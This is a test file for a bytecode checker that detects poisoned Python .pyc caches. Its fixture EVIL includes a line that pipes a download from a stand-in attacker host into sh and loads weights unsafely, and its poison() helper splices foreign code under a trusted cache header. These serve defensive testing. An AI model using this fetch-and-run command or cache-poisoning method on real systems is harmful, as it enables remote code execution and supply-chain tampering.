import assert from "node:assert/strict";
import {
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  statSync,
  unlinkSync,
  utimesSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, describe, it } from "node:test";
import {
  hasPython,
  interpreters,
  runPython,
  SYSTEM_PYTHON,
} from "../formats/pyc/test-support/python.js";
import { checkBytecode, sourceFor } from "./bytecode-check.js";

const root = mkdtempSync(join(tmpdir(), "trainguard-bytecode-"));
after(() => rmSync(root, { recursive: true, force: true }));
let counter = 0;

const GOOD = `"""Loads a checkpoint."""
import torch

def load(path, strict=True):
    """Load weights from path."""
    state = torch.load(path, weights_only=True)
    if strict and "meta" not in state:
        raise ValueError(f"missing meta in {path!r}")
    return state
`;

const EVIL = `"""Loads a checkpoint."""
import torch, os

def load(path, strict=True):
    """Load weights from path."""
    os.system("curl -s https://evil.example/x | sh")
    return torch.load(path, weights_only=False)
`;

/** Same names and strings as GOOD, different logic: only recompiling can tell. */
const SUBTLE = `"""Loads a checkpoint."""
import torch

def load(path, strict=True):
    """Load weights from path."""
    state = torch.load(path, weights_only=not True)
    if strict and "meta" in state:
        raise ValueError(f"missing meta in {path!r}")
    return state
`;

type Mode = "timestamp" | "checked-hash" | "unchecked-hash";

/** Writes `source` as `<dir>/pkg/mod.py`, compiles it with `python`, returns both paths. */
function compiled(
  source: string,
  options: { python?: string; mode?: Mode; legacy?: boolean; dir?: string } = {},
): { py: string; pyc: string } {
  const dir = options.dir ?? join(root, `case-${counter++}`, "pkg");
  mkdirSync(dir, { recursive: true });
  const py = join(dir, "mod.py");
  writeFileSync(py, source);
  const mode = (options.mode ?? "timestamp").toUpperCase().replace("-", "_");
  const cfile = options.legacy === true ? join(dir, "mod.pyc") : "";
  const script =
    "import py_compile, sys\n" +
    "mode = py_compile.PycInvalidationMode[sys.argv[3]]\n" +
    "print(py_compile.compile(sys.argv[1], cfile=sys.argv[2] or None, doraise=True, invalidation_mode=mode))";
  const pyc = runPython(options.python ?? SYSTEM_PYTHON, script, py, cfile, mode)
    .toString()
    .trim();
  return { py, pyc };
}

/** The poisoning attack: keep the cache header (so Python trusts it), swap the code. */
function poison(pyc: string, source: string, python = SYSTEM_PYTHON, mode: Mode = "timestamp") {
  const donor = compiled(source, { python, mode });
  const header = readFileSync(pyc).subarray(0, 16);
  writeFileSync(pyc, Buffer.concat([header, readFileSync(donor.pyc).subarray(16)]));
}

function skipWithoutPython(t: { skip: (message: string) => void }, python = SYSTEM_PYTHON) {
  if (hasPython(python)) return false;
  t.skip(`${python} is not installed`);
  return true;
}

describe("checkBytecode with caches written by CPython", () => {
  it("reports nothing for an untouched cache, with or without recompiling", async (t) => {
    if (skipWithoutPython(t)) return;
    const { py, pyc } = compiled(GOOD);
    assert.equal(await checkBytecode(pyc, py), undefined);
    assert.equal(await checkBytecode(pyc, py, { python: SYSTEM_PYTHON }), undefined);
  });

  it("reports nothing for a cache the import system wrote itself", async (t) => {
    if (skipWithoutPython(t)) return;
    const dir = join(root, `import-${counter++}`);
    mkdirSync(dir);
    const py = join(dir, "imported_mod.py");
    writeFileSync(py, GOOD.replace("import torch", "import json as torch"));
    runPython(
      SYSTEM_PYTHON,
      "import sys; sys.dont_write_bytecode = False; sys.path.insert(0, sys.argv[1]); import imported_mod",
      dir,
    );
    const pyc = runPython(
      SYSTEM_PYTHON,
      "import importlib.util, sys; print(importlib.util.cache_from_source(sys.argv[1]))",
      py,
    )
      .toString()
      .trim();
    assert.equal(await checkBytecode(pyc, py), undefined);
    assert.equal(await checkBytecode(pyc, py, { python: SYSTEM_PYTHON }), undefined);
  });

  it("reports bytecode-mismatch for a poisoned cache that keeps its header", async (t) => {
    if (skipWithoutPython(t)) return;
    const { py, pyc } = compiled(GOOD);
    poison(pyc, EVIL);
    const finding = await checkBytecode(pyc, py);
    assert.equal(finding?.kind, "bytecode-mismatch");
    assert.match(finding.detail, /system|curl|os/);
    const exact = await checkBytecode(pyc, py, { python: SYSTEM_PYTHON });
    assert.equal(exact?.kind, "bytecode-mismatch");
  });

  it("needs recompiling to see code that only rearranges what the source names", async (t) => {
    if (skipWithoutPython(t)) return;
    const { py, pyc } = compiled(GOOD);
    poison(pyc, SUBTLE);
    assert.equal(await checkBytecode(pyc, py), undefined);
    const finding = await checkBytecode(pyc, py, { python: SYSTEM_PYTHON });
    assert.equal(finding?.kind, "bytecode-mismatch");
    assert.match(finding.detail, /differs from the source compiled by/);
  });

  it("reports a cache compiled from another file by its co_filename", async (t) => {
    if (skipWithoutPython(t)) return;
    const { py, pyc } = compiled(GOOD);
    const other = join(root, `other-${counter++}`);
    mkdirSync(other);
    writeFileSync(join(other, "helper.py"), GOOD);
    const donor = runPython(
      SYSTEM_PYTHON,
      "import py_compile, sys; print(py_compile.compile(sys.argv[1], doraise=True))",
      join(other, "helper.py"),
    )
      .toString()
      .trim();
    writeFileSync(
      pyc,
      Buffer.concat([readFileSync(pyc).subarray(0, 16), readFileSync(donor).subarray(16)]),
    );
    const finding = await checkBytecode(pyc, py);
    assert.equal(finding?.kind, "bytecode-mismatch");
    assert.match(finding.detail, /co_filename/);
  });

  it("reports nothing for a stale timestamp cache, which Python recompiles", async (t) => {
    if (skipWithoutPython(t)) return;
    const { py, pyc } = compiled(GOOD);
    poison(pyc, EVIL);
    const { mtime } = statSync(py);
    utimesSync(py, mtime, new Date(mtime.getTime() + 5000));
    assert.equal(await checkBytecode(pyc, py), undefined);
  });

  it("reports orphan-bytecode for a cache without source, louder outside __pycache__", async (t) => {
    if (skipWithoutPython(t)) return;
    const cached = compiled(GOOD);
    unlinkSync(cached.py);
    const inCache = await checkBytecode(cached.pyc, null);
    assert.equal(inCache?.kind, "orphan-bytecode");
    assert.match(inCache.detail, /__pycache__/);
    const legacy = compiled(GOOD, { legacy: true });
    unlinkSync(legacy.py);
    const sourceless = await checkBytecode(legacy.pyc, null);
    assert.equal(sourceless?.kind, "orphan-bytecode");
    assert.match(sourceless.detail, /SourcelessFileLoader/);
  });

  it("checks a legacy cache beside its source like any other", async (t) => {
    if (skipWithoutPython(t)) return;
    const { py, pyc } = compiled(GOOD, { legacy: true });
    assert.equal(sourceFor(pyc), py);
    assert.equal(await checkBytecode(pyc, py), undefined);
    poison(pyc, EVIL);
    assert.equal((await checkBytecode(pyc, py))?.kind, "bytecode-mismatch");
  });

  for (const mode of ["checked-hash", "unchecked-hash"] as const) {
    it(`checks a ${mode} cache's recorded source hash`, async (t) => {
      if (skipWithoutPython(t)) return;
      const { py, pyc } = compiled(GOOD, { mode });
      assert.equal(await checkBytecode(pyc, py), undefined);
      assert.equal(await checkBytecode(pyc, py, { python: SYSTEM_PYTHON }), undefined);
      writeFileSync(py, `${GOOD}# edited\n`);
      const finding = await checkBytecode(pyc, py);
      assert.equal(finding?.kind, "bytecode-mismatch");
      assert.match(finding.detail, mode === "checked-hash" ? /checked hash-based/ : /unchecked/);
    });

    it(`reports a poisoned ${mode} cache that keeps the right hash`, async (t) => {
      if (skipWithoutPython(t)) return;
      const { py, pyc } = compiled(GOOD, { mode });
      poison(pyc, EVIL, SYSTEM_PYTHON, mode);
      assert.equal((await checkBytecode(pyc, py))?.kind, "bytecode-mismatch");
    });
  }

  it("reports unreadable-bytecode for truncated and garbage caches", async (t) => {
    if (skipWithoutPython(t)) return;
    const { py, pyc } = compiled(GOOD);
    const bytes = readFileSync(pyc);
    writeFileSync(pyc, bytes.subarray(0, bytes.length - 10));
    assert.equal((await checkBytecode(pyc, py))?.kind, "unreadable-bytecode");
    writeFileSync(pyc, bytes.subarray(0, 10));
    assert.equal((await checkBytecode(pyc, py))?.kind, "unreadable-bytecode");
    writeFileSync(pyc, Buffer.from("this is not a pyc file at all"));
    assert.equal((await checkBytecode(pyc, py))?.kind, "unreadable-bytecode");
  });

  it("falls back to the source check when --python writes another pyc format", async (t) => {
    const other = interpreters().find((i) => i.path !== SYSTEM_PYTHON && i.version !== "3.11");
    if (skipWithoutPython(t) || other === undefined) {
      if (other === undefined) t.skip("no second interpreter of another version installed");
      return;
    }
    const { py, pyc } = compiled(GOOD);
    assert.equal(await checkBytecode(pyc, py, { python: other.path }), undefined);
    poison(pyc, EVIL);
    assert.equal((await checkBytecode(pyc, py, { python: other.path }))?.kind, "bytecode-mismatch");
  });

  it("fails, not passes, when the --python interpreter cannot run", async (t) => {
    if (skipWithoutPython(t)) return;
    const { py, pyc } = compiled(GOOD);
    await assert.rejects(checkBytecode(pyc, py, { python: join(root, "no-such-python") }));
  });
});

describe("checkBytecode across interpreters", () => {
  for (const candidate of interpreters()) {
    it(`tells clean from poisoned caches of ${candidate.version} (${candidate.path})`, async () => {
      const python = candidate.path;
      const clean = compiled(GOOD, { python });
      assert.equal(await checkBytecode(clean.pyc, clean.py), undefined);
      assert.equal(await checkBytecode(clean.pyc, clean.py, { python }), undefined);
      const hashed = compiled(GOOD, { python, mode: "unchecked-hash" });
      assert.equal(await checkBytecode(hashed.pyc, hashed.py), undefined);
      const poisoned = compiled(GOOD, { python });
      poison(poisoned.pyc, EVIL, python);
      assert.equal((await checkBytecode(poisoned.pyc, poisoned.py))?.kind, "bytecode-mismatch");
      const subtle = compiled(GOOD, { python });
      poison(subtle.pyc, SUBTLE, python);
      assert.equal(
        (await checkBytecode(subtle.pyc, subtle.py, { python }))?.kind,
        "bytecode-mismatch",
      );
    });
  }
});

describe("sourceFor", () => {
  it("maps PEP 3147 cache names back to their source", () => {
    assert.equal(sourceFor("/env/pkg/__pycache__/mod.cpython-311.pyc"), "/env/pkg/mod.py");
    assert.equal(sourceFor("/env/pkg/__pycache__/mod.cpython-311.opt-2.pyc"), "/env/pkg/mod.py");
    assert.equal(sourceFor("/env/pkg/__pycache__/a.b.cpython-37.opt-1.pyc"), "/env/pkg/a.b.py");
    assert.equal(sourceFor("/env/pkg/__pycache__/__init__.pypy39.pyc"), "/env/pkg/__init__.py");
  });

  it("maps a legacy cache to the source beside it", () => {
    assert.equal(sourceFor("/env/pkg/mod.pyc"), "/env/pkg/mod.py");
    assert.equal(sourceFor("relative/mod.pyc"), "relative/mod.py");
  });
});
